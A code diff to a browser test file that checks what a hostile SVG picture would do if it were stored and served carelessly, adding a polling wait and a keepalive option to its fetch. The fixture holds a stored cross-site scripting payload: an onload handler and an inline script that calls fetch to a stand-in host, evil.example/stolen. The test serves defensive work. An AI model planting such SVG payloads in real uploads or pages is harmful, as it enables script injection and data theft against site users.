@@ -8,10 +8,11 @@ import { openBrowser } from '../support/browser.js';
 import { Doors } from '../support/doors.js';
 import { HOSTILE_SVGS } from '../support/hostile-svgs.js';
 import { describeIf } from '../support/requires.js';
+import { soon } from '../support/soon.js';
 
 /** What would happen if a hostile picture were stored after all. */
 const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert('handler')">
-  <script>alert('script'); fetch('https://evil.example/stolen')</script><image href="https://evil.example/pixel.png" width="9" height="9"/></svg>`;
+  <script>alert('script'); fetch('https://evil.example/stolen', { keepalive: true })</script><image href="https://evil.example/pixel.png" width="9" height="9"/></svg>`;
 
 describeIf('chromium', 'a hostile picture that slipped through, in a real browser', () => {
   let doors: Doors;
@@ -99,8 +100,10 @@ describeIf('chromium', 'a hostile picture that slipped through, in a real browse
   it('would have run and asked where it is served like any file', async () => {
     await open(files.map((_, index) => `http://${at(careless)}/${index}`));
 
+    const all = ['/stolen', '/pixel.png', '/x.js', '/x.css'];
+    await soon(() => all.every((path) => asked.includes(path)));
     expect(said).toEqual(expect.arrayContaining(['handler', 'script', '1']));
-    expect(asked).toEqual(expect.arrayContaining(['/stolen', '/pixel.png', '/x.js', '/x.css']));
+    expect(asked).toEqual(expect.arrayContaining(all));
   });
 });
 
